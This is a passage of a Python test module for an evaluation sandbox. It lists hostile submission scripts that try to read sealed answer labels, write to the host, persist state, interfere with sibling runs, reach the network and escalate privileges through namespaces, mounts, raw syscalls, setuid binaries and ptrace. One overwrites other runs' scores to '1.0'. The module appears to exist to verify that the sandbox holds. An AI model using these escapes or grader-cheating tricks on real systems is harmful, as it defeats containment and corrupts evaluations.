"""Submissions that cheat or do harm, and what each of them must get.

An attack is the text of an ``entrypoint.py``. It knows more than any attacker would: where the round lies on the host,
where a socket of the host listens, what the labels' file holds. What it has found it tells by its answer: 1.0 where it
got what it was after, 0.5 where it did not; so an attack has failed where every answer is 0.5, or where the data point
ended with one of the errors that it must end with.
"""

from dataclasses import dataclass, field, replace
from enum import StrEnum
from typing import Any

__all__ = ["ATTACKS", "BOTH", "COLD", "NOTHING", "PREAMBLE", "WARM", "Aim", "Attack"]

NOTHING = "nothing"
"""Every answer is 0.5: the attack ran to its end and has found nothing."""

WARM, COLD = ("warm",), ("cold",)
BOTH = (*WARM, *COLD)


class Aim(StrEnum):
    """What an attack is after."""

    READ = "read what is sealed"
    WRITE = "write outside"
    STATE = "leave something for the next model"
    SIBLING = "talk to the model beside"
    NETWORK = "reach the network"
    ESCAPE = "gain rights"
    INTERPRETER = "turn the fork server"
    EXHAUST = "use everything up"
    ANSWER = "answer what is no answer"


@dataclass(frozen=True, slots=True)
class Attack:
    """One submission.

    Attributes:
        name: a short name.
        aim: what it is after.
        source: its program, without :data:`PREAMBLE`.
        must: what a data point may end with: :data:`NOTHING`, or codes of errors.
        modes: ``warm``, ``cold`` or both.
        models: data points that it is run on.
        limits: where they are others than the arena's.
        hole: why it succeeds today; None where it does not.
    """

    name: str
    aim: Aim
    source: str
    must: frozenset[str] = frozenset({NOTHING})
    modes: tuple[str, ...] = WARM
    models: int = 4
    limits: dict[str, Any] = field(default_factory=dict)
    hole: str | None = None


PREAMBLE = r'''
import argparse, ctypes, errno, os, signal, socket, struct, sys, time
parser = argparse.ArgumentParser()
for name in ("model_filepath", "result_filepath", "scratch_dirpath", "examples_dirpath"):
    parser.add_argument("--" + name)
options, _ = parser.parse_known_args()
MODEL, RESULT, SCRATCH = options.model_filepath, options.result_filepath, options.scratch_dirpath
DATA = os.path.dirname(MODEL)
libc = ctypes.CDLL(None, use_errno=True)

def answer(text):
    with open(RESULT, "w") as file:
        file.write(str(text))

def tried(action, *arguments):
    """What an action returned, where it worked; False where it was refused."""
    try:
        result = action(*arguments)
    except BaseException:
        return False
    return True if result is None or (isinstance(result, int) and result == 0) else result

def tell(loot):
    """Answer 1.0 with loot, 0.5 without."""
    if loot:
        print("LOOT", repr(loot)[:300])
    answer("1.0" if loot else "0.5")
    sys.exit(0)

def call(number, *arguments):
    """A system call: its result, or the negative number of its error."""
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *(a if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments))
    return result if result >= 0 else -ctypes.get_errno()

def reached(number, *arguments):
    """Whether the kernel does more with a system call than to refuse it."""
    return call(number, *arguments) not in (-errno.EPERM, -errno.ENOSYS)

def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 20)
    except OSError:
        return b""

def daemon(work):
    """Run something in a process that nobody waits for."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                signal.signal(number, signal.SIG_IGN)
            for number in (0, 1, 2):
                os.close(number)
            try:
                work()
            finally:
                os._exit(0)
        os._exit(0)

INTEL = os.uname().machine == "x86_64"
'''
"""What every attack begins with. The arena puts ROUND, OUTSIDE, PORT, ABSTRACT, SOCKET, IDS and SECRET before it."""


def _attacks(aim: Aim, *attacks: Attack) -> list[Attack]:
    return [replace(attack, aim=aim) for attack in attacks]


def _attack(
    name: str,
    source: str,
    *must: str,
    modes: tuple[str, ...] = WARM,
    models: int = 4,
    hole: str | None = None,
    **limits: Any,
) -> Attack:
    return Attack(name, Aim.READ, source, frozenset(must or {NOTHING}), modes, models, limits, hole)


# --- read what is sealed ----------------------------------------------------------------------------------------------

_READ = _attacks(
    Aim.READ,
    _attack(
        "labels-by-path",
        """
import itertools
names = ("test/METADATA.csv", "train/METADATA.csv", "round.yaml", *(f"test/models/{i}/sealed/truth.csv" for i in IDS))
roots = ("", "/proc/1/root", "/proc/self/root", "/proc/1/cwd/../..", "/..", "/newroot", "/oldroot", "/host", "/mnt")
tell([root + ROUND + "/" + name for root in roots for name in names if os.path.lexists(root + ROUND + "/" + name)])
""",
        modes=BOTH,
    ),
    _attack(
        "sealed-beside-open",
        """
up = [DATA + "/.." * n for n in range(6)] + [MODEL + "/.." * n for n in range(6)] + ["/data", "/box/.."]
tell([u for u in up for n in ("sealed", "../sealed", "METADATA.csv", "truth.csv") if os.path.lexists(u + "/" + n)])
""",
    ),
    _attack(
        "walk-names",
        """
loot = []
for root, folders, files in os.walk("/"):
    if root == "/proc":
        folders[:] = ["self", "1"]
    if root in ("/usr/share", "/opt/environment/lib/python3.11/site-packages") or root.count("/") > 6:
        folders.clear()
    loot += [root + "/" + n for n in folders + files if n in IDS or n in ("METADATA.csv", "truth.csv", "round.yaml")]
tell(loot)
""",
        models=2,
        seconds=15,
    ),
    _attack(
        "other-models-and-submissions",
        """
loot = []
for top in ("/data", "/box", "/tmp", "/submission", "/round", "/train", "/state", "/learned", "/dev/shm", "/run",
            "/var", "/home", "/root", "/srv", "/mnt", "/media", "/etc", os.path.dirname(ROUND), OUTSIDE):
    for root, folders, files in os.walk(top):
        for name in files:
            text = read(os.path.join(root, name))
            own = root.startswith((DATA, "/submission"))
            if not own and (b"CANARY-" in text or b"HONEST" in text or SECRET.encode() in text):
                loot.append(os.path.join(root, name))
others = [n for n in os.listdir("/submission") if n not in ("entrypoint.py", "metaparameters.json",
          "metaparameters_schema.json", "learned_parameters")]
tell(loot + others)
""",
    ),
    _attack(
        "process-1",
        """
loot = [n for n in ("root", "cwd", "exe", "environ", "mem", "maps", "auxv", "stack", "syscall", "fd", "map_files")
        if tried(os.listdir if n in ("root", "cwd", "fd", "map_files") else (lambda p: open(p, "rb").read(1)),
                 "/proc/1/" + n)]
tell(loot + [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid())])
""",
        modes=BOTH,
    ),
    _attack(
        "names-in-proc",
        """
words = [*IDS, ROUND, os.path.basename(ROUND), OUTSIDE, SECRET]
files = [f"/proc/{p}/{n}" for p in ("self", "1", "thread-self") for n in
         ("cmdline", "environ", "mountinfo", "mounts", "mountstats", "cgroup", "stat", "status", "maps", "comm")]
files += ["/proc/" + n for n in ("mounts", "cmdline", "locks", "keys", "key-users", "net/unix", "sysvipc/shm", "swaps")]
text = b"".join(map(read, files)).decode(errors="replace") + repr(dict(os.environ)) + repr(sys.argv) + repr(sys.path)
tell([w for w in words if w in text])
""",
        modes=BOTH,
    ),
    _attack(
        "paths-of-the-host",
        """
words = (os.path.dirname(ROUND).encode(), b"palladion" + b"-run-")
files = [f"/proc/{p}/{n}" for p in ("self", "1") for n in ("mountinfo", "mounts", "mountstats", "maps", "environ")]
tell([f for f in files if any(word in read(f) for word in words)])
""",
        modes=BOTH,
        models=2,
    ),
    _attack(
        "inherited-descriptors",
        """
loot = [n for n in range(3, 4096) if tried(os.fstat, n)]
kinds = [os.readlink(f"/proc/self/fd/{n}") for n in range(3)]
loot += [k for k in kinds if not k.startswith(("pipe:", "/dev/null"))]
for n in range(3):  # what else do the pipes lead to?
    for flags in (os.O_RDONLY | os.O_NONBLOCK,):
        if n and tried(lambda: os.read(os.open(f"/proc/self/fd/{n}", flags), 100)) not in (False, b""):
            loot.append("read from a pipe")
tell(loot)
""",
        modes=BOTH,
    ),
    _attack(
        "memory-of-earlier-models",
        """
import re
needle = re.compile(b"CANARY" + b"-[0-9a-f]{32}|" + b"sealed" + b"-truth-[0-9a-f]{16}")
loot = set()
for line in open("/proc/self/maps"):
    fields = line.split()
    start, end = (int(x, 16) for x in fields[0].split("-"))
    if not fields[1].startswith("rw") or end - start > 64 << 20:
        continue
    with open("/proc/self/mem", "rb", 0) as memory:
        try:
            memory.seek(start)
            loot.update(needle.findall(memory.read(end - start)))
        except (OSError, ValueError):
            pass
# It is in the preamble of this very program, so it is no find.
loot.discard(SECRET.encode())
own = read(MODEL + "/weights.bin")  # only now: else it would be found
tell([l for l in loot if l not in own])
""",
        modes=BOTH,
    ),
    _attack(
        "shared-memory-of-the-fork-server",
        """
tell([l for l in open("/proc/self/maps") if l.split()[1].startswith("rw") and l.split()[1].endswith("s")])
""",
    ),
    _attack(
        "handles",
        """
buffer = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128), 160)
number = (303, 304) if INTEL else (264, 265)
mount_id = ctypes.create_string_buffer(8)
address = ctypes.addressof
tell(reached(number[0], -100, b"/data", address(buffer), address(mount_id), 0)
     or reached(number[1], -100, address(buffer), os.O_RDONLY))
""",
    ),
    _attack(
        "leave-by-chroot",
        """
os.makedirs("hole", exist_ok=True)
fd = os.open("/", os.O_RDONLY)
loot = tried(os.chroot, "hole")
os.fchdir(fd)
for _ in range(50):
    os.chdir("..")
tell(loot or [n for n in os.listdir(".") if n not in os.listdir("/")] or os.path.lexists("." + ROUND))
""",
    ),
)

# --- write outside ----------------------------------------------------------------------------------------------------

_WRITE = _attacks(
    Aim.WRITE,
    _attack(
        "write-to-what-is-shared",
        """
loot = []
files = [MODEL + "/weights.bin", "/submission/entrypoint.py", sys.executable, os.__file__, "/opt/nest/nest.py",
         "/etc/passwd", "/etc/hosts", "/usr/bin/env", ctypes.__file__]
for path in files:
    actions = {
        "open": lambda: os.open(path, os.O_WRONLY), "append": lambda: os.open(path, os.O_WRONLY | os.O_APPEND),
        "truncate": lambda: os.truncate(path, 0), "chmod": lambda: os.chmod(path, 0o666),
        "utime": lambda: os.utime(path, ns=(1, 1)), "touch": lambda: os.utime(path),
        "chown": lambda: os.chown(path, os.getuid(), -1), "unlink": lambda: os.unlink(path),
        "rename": lambda: os.rename(path, path + "x"), "link": lambda: os.link(path, path + "x"),
        "xattr": lambda: os.setxattr(path, "user.mark", b"1"),
    }
    loot += [(name, path) for name, action in actions.items() if tried(action)]
for folder in sorted({os.path.dirname(p) for p in files} | {"/", "/opt", "/submission", "/data", "/dev", "/proc"}):
    actions = {
        "create": lambda: os.close(os.open(folder + "/mark", os.O_CREAT | os.O_WRONLY)),
        "tmpfile": lambda: os.close(os.open(folder, os.O_TMPFILE | os.O_WRONLY)),
        "mkdir": lambda: os.mkdir(folder + "/markdir"), "chmod": lambda: os.chmod(folder, 0o777),
        "utime": lambda: os.utime(folder, ns=(1, 1)), "symlink": lambda: os.symlink("/", folder + "/link"),
    }
    loot += [(name, folder) for name, action in actions.items() if tried(action)]
tell(loot)
""",
        modes=BOTH,
    ),
    _attack(
        "write-to-the-host",
        """
loot = []
for folder in (OUTSIDE, ROUND, ROUND + "/test", os.path.dirname(ROUND), "/tmp/..", "/root", "/home", "/var/tmp"):
    if tried(lambda: os.close(os.open(folder + "/hostile-mark", os.O_CREAT | os.O_WRONLY))):
        loot.append(folder)
os.symlink(OUTSIDE, SCRATCH + "/link")
tell(loot + [1 for n in (1, 2) if tried(lambda: open(SCRATCH + "/link/hostile-mark", "w"))])
""",
    ),
    _attack(
        "proc-sys",
        """
loot = []
for root, folders, files in os.walk("/proc/sys"):
    paths = [os.path.join(root, n) for n in files]
    loot += [p for p in paths if tried(lambda: os.close(os.open(p, os.O_WRONLY)))]
loot += [n for n in ("/proc/sysrq-trigger", "/proc/1/oom_score_adj", "/proc/irq/default_smp_affinity", "/proc/mtrr")
         if tried(lambda: os.close(os.open(n, os.O_WRONLY)))]
tell(loot)
""",
        modes=BOTH,
    ),
    _attack(
        "devices",
        """
loot = [n for n in os.listdir("/dev") if n not in ("null", "zero", "full", "random", "urandom", "tty", "ptmx", "pts",
        "shm", "fd", "stdin", "stdout", "stderr", "core")]
for name, kind in (("mem", os.makedev(1, 1)), ("vda", os.makedev(254, 0)), ("sda", os.makedev(8, 0))):
    if tried(os.mknod, SCRATCH + "/" + name, 0o60666, kind) or tried(os.mknod, SCRATCH + "/c" + name, 0o20666, kind):
        loot.append(name)
tell(loot + [n for n in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/fuse", "/dev/net/tun", "/proc/kcore", "/dev/kvm")
             if tried(lambda: os.close(os.open(n, os.O_RDONLY)))])
""",
    ),
    _attack(
        "hard-links-of-read-only-files",
        """
tell([p for p in (MODEL + "/weights.bin", "/submission/entrypoint.py", "/usr/bin/env", "/etc/passwd")
      if tried(os.link, p, SCRATCH + "/" + os.path.basename(p)) or tried(os.rename, p, SCRATCH + "/r")])
""",
    ),
    _attack(
        "control-groups",
        """
loot = [p for p in ("/sys/fs/cgroup", "/sys/kernel", "/sys/fs/cgroup/memory") if os.path.exists(p)]
text = read("/proc/self/cgroup").decode()
tell(loot + [l for l in text.splitlines() if not l.endswith(":/")])
""",
        modes=BOTH,
    ),
)

# --- leave something for the next model -------------------------------------------------------------------------------

_STATE = _attacks(
    Aim.STATE,
    _attack(
        "files-everywhere",
        """
tops = ["/", "/tmp", "/var/tmp", "/dev", "/dev/shm", "/dev/mqueue", "/run", "/box", "/box/tmp", "/box/shm",
        "/box/..", SCRATCH, DATA, MODEL, "/submission", "/submission/learned_parameters", "/opt", "/opt/nest",
        "/opt/environment", "/opt/palladion", "/usr/tmp", "/home", "/root", "/proc", "/proc/self", "/etc",
        os.path.expanduser("~"), os.getcwd()]
loot = [t for t in tops if os.path.lexists(t + "/mark")]
for t in tops:
    tried(lambda: os.close(os.open(t + "/mark", os.O_CREAT | os.O_WRONLY)))
tell(loot)
""",
        modes=BOTH,
    ),
    _attack(
        "cached-bytecode",
        """
sys.dont_write_bytecode = False
sys.path.insert(0, "/submission")
loot = os.path.exists("/submission/__pycache__") or os.path.exists(SCRATCH + "/__pycache__")
os.makedirs("/tmp/lib", exist_ok=True)
loot = loot or os.path.exists("/tmp/lib/notes.py")
open("/tmp/lib/notes.py", "w").write("seen = 1")
import py_compile
tried(py_compile.compile, "/submission/entrypoint.py")
tell(loot)
""",
    ),
    _attack(
        "system-v-ipc",
        """
loot = []
for key in (0x70616c, 0x70616d):
    for name, arguments in (("shmget", (key, 4096)), ("semget", (key, 1)), ("msgget", (key,))):
        if getattr(libc, name)(*arguments, 0o600) >= 0:
            loot.append(name)
        getattr(libc, name)(*arguments, 0o1600)
tell(loot)
""",
        modes=BOTH,
    ),
    _attack(
        "posix-ipc",
        """
loot = [f for f in os.listdir("/dev/shm")]
open("/dev/shm/sem.mark", "wb").write(bytes(32))
if hasattr(libc, "mq_open"):
    if libc.mq_open(b"/mark", os.O_RDWR) >= 0:
        loot.append("mq")
    libc.mq_open(b"/mark", os.O_RDWR | os.O_CREAT, 0o600, None)
tell(loot)
""",
        modes=BOTH,
    ),
    _attack(
        "daemon-behind-a-socket",
        """
paths = [chr(0) + "mark", "/tmp/mark.sock", "/box/mark.sock", "/dev/shm/mark.sock"]
def reach(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(path)
    return path
loot = [p for p in paths if tried(reach, p)]
servers = []
for p in paths:
    s = socket.socket(socket.AF_UNIX)
    if tried(s.bind, p):
        s.listen()
        servers.append(s)
daemon(lambda: time.sleep(60))
tell(loot)
""",
        modes=BOTH,
    ),
    _attack(
        "named-pipe",
        """
loot = [p for p in ("/tmp/pipe", "/dev/shm/pipe", "/box/pipe") if os.path.lexists(p)]
for p in ("/tmp/pipe", "/dev/shm/pipe", "/box/pipe"):
    os.mkfifo(p)
daemon(lambda: open("/tmp/pipe", "w").write("mark"))
tell(loot)
""",
    ),
    _attack(
        "keyring",
        """
number = (248, 249, 250) if INTEL else (217, 218, 219)
loot = [n for n in (reached(number[0], b"user", b"mark", b"x", 1, k) for k in (-2, -3, -4, -5)) if n]
tell(loot or reached(number[1], b"user", b"mark", 0, -4) or reached(number[2], 0, -4, 1))
""",
    ),
    _attack(
        "daemon-that-answers-later",
        """
own = "0.5" + "0" * (1 + os.urandom(1)[0] % 24)
def replace(path):
    # What it answered itself it may take back until it is killed: another's answer is what it is after.
    if open(path).read() not in ("", own):
        open(path, "w").write("1.0")
def later():
    for _ in range(300):
        time.sleep(0.02)
        for start in ("", "/proc/1/root"):
            tried(replace, start + "/box/result.txt")
        tried(replace, RESULT)
answer(own)
daemon(later)
os._exit(0)
""",
    ),
    _attack(
        "processes-that-stay",
        """
loot = [p for p in os.listdir("/proc") if p.isdigit() and int(p) > 2]
for _ in range(10):
    daemon(lambda: time.sleep(600))
tell(loot)
""",
        modes=BOTH,
    ),
    _attack(
        "settings-of-the-process",
        """
import resource
def settings():
    return [read("/proc/self/comm"), read("/proc/1/comm"), os.nice(0), os.umask(0o22), sorted(os.sched_getaffinity(0)),
            os.sched_getscheduler(0), read("/proc/self/oom_score_adj"), read("/proc/self/coredump_filter"),
            read("/proc/self/timerslack_ns"), os.uname().nodename, os.getcwd(), libc.personality(0xFFFFFFFF),
            [resource.getrlimit(n) for n in range(16)], sorted(os.environ.items()), os.getpgid(0), os.getsid(0),
            signal.pthread_sigmask(signal.SIG_BLOCK, []), [signal.getsignal(n) for n in range(1, 30)]]
def digest():
    import zlib
    return zlib.crc32(repr(settings()).encode())
print("SETTINGS", digest())
libc.prctl(15, b"marked", 0, 0, 0)
tried(os.nice, 5), os.umask(0o777), tried(os.sched_setaffinity, 0, {0}), tried(os.setpgid, 0, 0)
for path, text in (("oom_score_adj", "900"), ("coredump_filter", "0"), ("timerslack_ns", "1"), ("comm", "x")):
    for pid in ("self", "1"):
        tried(lambda: open(f"/proc/{pid}/{path}", "w").write(text))
tried(resource.setrlimit, resource.RLIMIT_NOFILE, (100, 100))
tried(libc.sethostname, b"marked", 6)
os.environ["MARK"] = "1"
answer("0.5")
os.umask(0o22)
""",
    ),
    _attack(
        "times-of-devices",
        """
names = ("/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", "/dev/tty", "/dev/ptmx", "/dev/pts/ptmx")
tell([n for n in names if tried(os.utime, n)])
""",
        modes=BOTH,
        models=2,
    ),
    _attack(
        "note-on-the-terminal-device",
        """
paths = [p for p in ("/dev/pts/ptmx", "/dev/pts") if os.path.exists(p)]
loot = [p for p in paths if os.stat(p).st_mtime_ns == 1234567890]
for p in paths:
    tried(lambda: os.utime(p, ns=(1234567890, 1234567890)))
    tried(lambda: os.chmod(p, 0o640))
tell(loot)
""",
    ),
    _attack(
        "page-cache-as-a-note-book",
        """
path = "/usr/bin/perl" if os.path.exists("/usr/bin/perl") else "/usr/bin/bash"
def cached():
    fd = os.open(path, os.O_RDONLY)
    try:
        return bool(os.preadv(fd, [bytearray(4096)], 0, os.RWF_NOWAIT))
    except BlockingIOError:
        return False
    finally:
        os.close(fd)
tell(tried(cached) is True and [path] or (tried(lambda: os.preadv(os.open(path, 0), [bytearray(9)], 0, os.RWF_NOWAIT))))
""",
        models=2,
    ),
    _attack(
        "extended-attributes",
        """
tops = ["/", "/tmp", "/dev", "/dev/shm", "/dev/pts", DATA, MODEL, "/submission", "/opt", "/usr", "/etc", "/box"]
own = ("/tmp", "/dev/shm", "/box")
loot = [t for t in tops if tried(os.getxattr, t, "user.mark")]
tell(loot + [t for t in tops if tried(os.setxattr, t, "user.mark", b"1") and t not in own])
""",
    ),
)

# --- talk to the model beside -----------------------------------------------------------------------------------------

_SIBLING = _attacks(
    Aim.SIBLING,
    _attack(
        "pseudo-terminals",
        """
end, loot = time.time() + 0.3, []
mine = tried(os.openpty)
own = os.ttyname(mine[1]).rpartition("/")[2] if mine else None
while time.time() < end:
    loot += [n for n in (os.listdir("/dev/pts") if os.path.isdir("/dev/pts") else []) if n not in (own, "ptmx")]
tell(loot)
""",
    ),
    _attack(
        "locks-on-shared-files",
        """
import fcntl
paths = ("/submission/entrypoint.py", "/usr/bin/env", os.__file__, "/etc/passwd")
loot, end, held = [], time.time() + 0.4, []
for p in paths:
    fd = os.open(p, os.O_RDONLY)
    while time.time() < end:
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            break
        except BlockingIOError:
            loot.append(p)
            break
    held.append(fd)
while time.time() < end:
    time.sleep(0.01)
tell(loot)
""",
        hole="flock works on files that are open for reading, and all data points have the same inodes",
    ),
    _attack(
        "record-locks-on-shared-files",
        """
import fcntl
loot, end = [], time.time() + 0.3
for p in ("/submission/entrypoint.py", "/usr/bin/env"):
    fd = os.open(p, os.O_RDONLY)
    fcntl.lockf(fd, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, os.getpid() % 7)
    flock = struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0)
    while time.time() < end:
        kind = struct.unpack("hhqqi4x", fcntl.fcntl(fd, fcntl.F_GETLK, flock))[0]
        if kind != fcntl.F_UNLCK:
            loot.append(p)
            break
        time.sleep(0.01)
tell(loot)
""",
        hole="as flock: a reader's lock of one data point is seen by F_GETLK in another",
    ),
    _attack(
        "notices-of-folders",
        """
import fcntl
signal.signal(signal.SIGIO, signal.SIG_IGN)
loot = []
for p in ("/submission", "/usr/bin", "/opt/python/lib"):
    if os.path.isdir(p) and tried(lambda: fcntl.fcntl(os.open(p, os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_ACCESS)):
        loot.append(p)
number = (253, 294, 300) if INTEL else (26, 26, 262)
tell(loot + [n for n in number if reached(n, 0, 0)])
""",
        models=2,
    ),
    _attack(
        "leases-on-shared-files",
        """
import fcntl
tell([p for p in ("/submission/entrypoint.py", "/usr/bin/env", MODEL + "/weights.bin")
      if tried(lambda: fcntl.fcntl(os.open(p, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK))])
""",
    ),
    _attack(
        "abstract-sockets",
        """
loot, end = [], time.time() + 0.3
mine = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
bound = tried(mine.bind, chr(0) + "sibling")
loot += [] if bound else ["taken"]
while time.time() < end:
    loot += [l for l in open("/proc/net/unix").read().splitlines()[1:] if "sibling" in l][1:]
    time.sleep(0.02)
tell(loot)
""",
    ),
    _attack(
        "signals-to-all",
        """
for number in (signal.SIGSTOP, signal.SIGUSR1, signal.SIGTERM, signal.SIGKILL):
    tried(os.kill, -1, number)
for pid in range(3, 400):
    tried(os.kill, pid, signal.SIGKILL)
answer("0.5")
""",
        NOTHING,
        "crashed",
    ),
    _attack(
        "answer-for-a-sibling",
        """
loot = []
for p in os.listdir("/proc"):
    if p.isdigit() and int(p) != os.getpid():
        paths = [f"/proc/{p}/{n}" for n in ("root/box/result.txt", "cwd/../result.txt")]
        loot += [path for path in paths if tried(lambda: open(path, "w").write("1"))]
for path in ("/box/../box/result.txt", "/box/scratch/../result.txt"):
    open(path, "w").write("0.5")
tell(loot)
""",
        modes=BOTH,
    ),
    _attack(
        "priorities-of-others",
        """
tried(os.setpriority, os.PRIO_USER, os.getuid(), 19), tried(os.setpriority, os.PRIO_USER, 0, 19)
loot = [p for p in (os.SCHED_FIFO, os.SCHED_RR) if tried(os.sched_setscheduler, 0, p, os.sched_param(1))]
tell(loot or tried(os.setpriority, os.PRIO_PROCESS, 0, -5) is True and ["niced up"])
""",
    ),
)

# --- reach the network ------------------------------------------------------------------------------------------------

_NETWORK = _attacks(
    Aim.NETWORK,
    _attack(
        "internet",
        """
def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(0.3)
        s.connect(address)
    return address
loot = [a for a in (("127.0.0.1", PORT), ("1.1.1.1", 53), ("169.254.169.254", 80)) if tried(connect, socket.AF_INET, a)]
loot += [1 for a in (("127.0.0.1", PORT), ("8.8.8.8", 53)) if tried(connect, socket.AF_INET, a, socket.SOCK_DGRAM)]
tell(loot or tried(connect, socket.AF_INET6, ("::1", PORT)) or tried(socket.getaddrinfo, "example.org", 80))
""",
        modes=BOTH,
    ),
    _attack(
        "sockets-of-the-host",
        """
def connect(address):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(address)
    return address
names = [chr(0) + ABSTRACT, SOCKET, "/proc/1/root" + SOCKET, "/run/docker.sock", "/run/dbus/system_bus_socket",
         "/var/run/nscd/socket", "/run/systemd/notify", chr(0) + "/tmp/.X11-unix/X0"]
tell([n for n in names if tried(connect, n)])
""",
        modes=BOTH,
    ),
    _attack(
        "other-families",
        """
refused = (errno.EAFNOSUPPORT, errno.EPERM, errno.ENOSYS)
loot = []
for family in range(2, 46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        if libc.socket(family, kind, 0) >= 0:
            loot.append(family)
tell(loot)
""",
    ),
    _attack(
        "socket-pairs-of-other-families",
        """
pair, loot = (ctypes.c_int * 2)(), []
for family in (2, 10, 16, 40):
    ctypes.set_errno(0)
    if libc.socketpair(family, 3 if family == 16 else 1, 0, pair) >= 0 or ctypes.get_errno() == errno.EOPNOTSUPP:
        loot.append(family)  # two sockets were made, and only then refused to be a pair
tell(loot)
""",
        models=2,
    ),
    _attack(
        "interfaces",
        """
loot = [l.split(":")[0].strip() for l in open("/proc/net/dev") if ":" in l and l.split(":")[0].strip() != "lo"]
loot += [f for f in ("arp", "route", "fib_trie", "tcp", "udp") if len(read("/proc/net/" + f).splitlines()) > 1]
tell(loot)
""",
    ),
    _attack(
        "io-uring",
        "tell([n for n in (425, 426, 427) if reached(n, 8, 0, 0)])",
    ),
)

# --- gain rights ------------------------------------------------------------------------------------------------------

_ESCAPE = _attacks(
    Aim.ESCAPE,
    _attack(
        "namespaces",
        """
loot = [f for f in (0x80, 0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000)
        if libc.unshare(f) == 0]
clone, setns = (56, 308) if INTEL else (220, 268)
for flag in (0x20000, 0x2000000, 0x10000000, 0x20000000, 0x40000000):
    result = call(clone, flag | 17, 0, 0, 0, 0)
    if result == 0:
        os._exit(0)
    if result > 0:
        loot.append("clone")
arguments = ctypes.create_string_buffer(struct.pack("=QQQQQQQQ", 0x10000000, 0, 0, 0, 17, 0, 0, 0), 64)
result = call(435, ctypes.addressof(arguments), 64)
if result == 0:
    os._exit(0)
loot += ["clone3"] if result > 0 else []
for name in os.listdir("/proc/self/ns"):
    for pid in ("self", "1"):
        try:
            if call(setns, os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0) >= 0:
                loot.append(name)
        except OSError:
            pass
tell(loot)
""",
        modes=BOTH,
    ),
    _attack(
        "mounts",
        """
numbers = (165, 166, 155, 161) if INTEL else (40, 39, 41, 51)
loot = [n for n in (*numbers, 428, 429, 430, 431, 432, 433, 442) if reached(n, b"none", b"/tmp", b"tmpfs", 0, 0)]
kinds = (b"proc", b"tmpfs", b"overlay", b"cgroup", b"devpts", b"mqueue")
tell(loot + [kind for kind in kinds if libc.mount(b"x", b"/tmp", kind, 0, None) == 0])
""",
        modes=BOTH,
    ),
    _attack(
        "parts-of-the-kernel",
        """
names = "bpf perf_event_open userfaultfd memfd_secret kexec_load init_module finit_module delete_module reboot swapon"
names += " acct quotactl syslog kcmp process_vm_readv process_vm_writev move_pages fanotify_init mincore vmsplice"
intel = (321, 298, 323, 447, 246, 175, 313, 176, 169, 167, 163, 179, 103, 312, 310, 311, 279, 300, 27, 278)
arm = (280, 241, 282, 447, 104, 105, 273, 106, 142, 224, 89, 60, 116, 272, 270, 271, 239, 262, 232, 75)
tell([name for name, number in zip(names.split(), intel if INTEL else arm) if reached(number, 0, 0, 0, 0, 0, 0)])
""",
    ),
    _attack(
        "what-came-after-the-filter",
        "tell([n for n in range(451, 480) if call(n, 0, 0, 0, 0, 0, 0) != -errno.ENOSYS])",
    ),
    _attack(
        "old-system-calls",
        """
import mmap
# getpid by int 0x80: the table of 32-bit programs, which a filter for 64 bits does not know.
code = mmap.mmap(-1, 4096, prot=7)
code.write(bytes.fromhex("b814000000cd80c3") if INTEL else b"")
if INTEL:
    number = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    tell(number > 0 and ["int 0x80 gave", number])
tell(None)
""",
        NOTHING,
        "crashed",
    ),
    _attack(
        "x32-system-calls",
        "tell([n for n in (39, 101, 165, 272) if INTEL and call(0x40000000 + n, 0, 0, 0, 0) != -errno.ENOSYS])",
    ),
    _attack(
        "set-user-id-programs",
        """
import subprocess
loot = []
status = dict(l.split(":", 1) for l in open("/proc/self/status") if ":" in l)
loot += [n for n in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb") if int(status[n], 16)]
for program in ("/usr/bin/su", "/usr/bin/mount", "/usr/bin/newuidmap", "/usr/bin/passwd", "/usr/bin/sudo"):
    if os.path.exists(program):
        command = ["/bin/sh", "-c", f"exec {program} -c id root 2>&1 < /dev/null"]
        done = subprocess.run(command, capture_output=True, timeout=5)
        loot += [program] if b"uid=0" in done.stdout else []
copy = SCRATCH + "/env"
open(copy, "wb").write(open("/usr/bin/env", "rb").read())
os.chmod(copy, 0o6755)
code = "import os; print(os.getresuid(), os.getresgid())"
done = subprocess.run([copy, sys.executable, "-c", code], capture_output=True, text=True)
loot += [] if done.stdout.split() == ["(1000,", "1000,", "1000)"] * 2 else [done.stdout]
everything = struct.pack("<5I", 0x2000001, 0xFFFFFFFF, 0, 0, 0)
loot += ["capability"] if tried(os.setxattr, copy, "security.capability", everything) else []
tell(loot + [u for u in (0, 1, 65534) if tried(os.setuid, u) or tried(os.setgid, u) or tried(os.setgroups, [u])])
""",
    ),
    _attack(
        "trace-and-take-over-process-1",
        """
ptrace, writev, getfd = (101, 311, 438) if INTEL else (117, 271, 438)
loot = [r for r in (16, 0x4206) if reached(ptrace, r, 1, 0, 0)]
loot += ["pidfd_getfd"] if reached(getfd, tried(os.pidfd_open, 1) or -1, 0, 0) else []
loot += ["mem"] if tried(lambda: os.close(os.open("/proc/1/mem", os.O_RDWR))) else []
loot += ["fd"] if tried(os.listdir, "/proc/1/fd") else []
tell(loot)
""",
        modes=BOTH,
    ),
